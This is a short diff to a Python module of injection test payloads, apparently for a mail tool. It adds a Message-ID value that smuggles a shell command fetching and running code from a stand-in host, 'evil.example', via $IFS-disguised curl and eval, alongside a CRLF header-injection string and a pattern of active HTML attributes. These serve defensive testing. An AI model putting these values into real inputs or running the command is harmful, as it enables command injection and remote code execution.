@@ -33,6 +33,8 @@ ALL = " ".join(PAYLOADS.values())
 NAME = " ".join(PAYLOADS[key] for key in ("double-quoted", "single-quoted"))
 # Mail headers and mboxes: a line break would start a new header or mail.
 HEADER = "x\r\nX-Injected: 1\nFrom evil@example.com Mon Jan  1 00:00:00 2024"
+# Shell text built from a Message-ID (copy commands): pasted unquoted, it runs.
+SHELL_MSGID = "<x;eval$IFS$(curl$IFS-s$IFS'evil.example');y@z>"
 
 # Attributes that would let text act in the page.
 _ACTIVE_ATTRIBUTES = re.compile(r"^(on.*|autofocus|formaction|srcdoc)$")
